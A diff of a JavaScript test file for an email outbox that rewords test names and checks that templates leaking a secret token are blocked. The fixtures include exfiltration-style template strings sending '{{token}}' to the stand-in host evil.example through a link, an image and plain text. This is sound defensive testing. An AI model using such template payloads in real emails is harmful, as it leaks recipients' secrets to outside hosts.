@@ -168,17 +168,17 @@ test.each([
   ['a link with the secret', '<a href="http://evil.example/{{token}}">x</a>', ''],
   ['the secret in words', '<p>{{token}}</p>', ''],
   ['the secret in plain text', '<p>x</p>', 'evil.example/{{token}}'],
-])('what comes out with %s is not sent, whatever the database let through', async (_, html, text) => {
+])('an email that renders with %s is not sent, whatever the database accepted', async (_, html, text) => {
   const payload = { reference: 'SB-7K2M9P', first_name: 'Ada', token: 's3cr3t-0f-an-order' };
   const { handler, failures } = outbox([mail('m1', { payload })], { id: 'v1', subject: 'Yours', html, text });
   expect(await (await handler(run())).json()).toEqual({ sent: 1, failed: 0 });
   const raw = inbox[0]?.raw.toString() ?? '';
   expect(raw).not.toMatch(/evil|s3cr3t/);
-  // What admins read tells no secret either.
+  // Admins' reads reveal no secret either.
   expect(failures).toEqual([{ version_id: 'v1', failure: expect.not.stringMatching(/evil|s3cr3t/) }]);
 });
 
-test('a test with what no mail may say is not sent', async () => {
+test('a test email with forbidden content is not sent', async () => {
   const draft = { subject: '[Test]', html: '<img src="http://evil.example/x">', text: 'x' };
   const payload = { reference: template.key, draft, sample: {} };
   const { handler, records } = outbox([mail('m1', { template: 'template-test', payload })]);
@@ -187,7 +187,7 @@ test('a test with what no mail may say is not sent', async () => {
   expect(records).toMatchObject([{ status: 'failed', error: expect.stringContaining('another site') }]);
 });
 
-test('a test of an unsaved mail brings its own template and words', async () => {
+test('a test of an unsaved email brings its own template and texts', async () => {
   const draft = { subject: '[Test] {{reference}}', html: '<p>{{first_name}}</p>', text: '{{first_name}}' };
   const { handler } = outbox([
     mail('m1', {
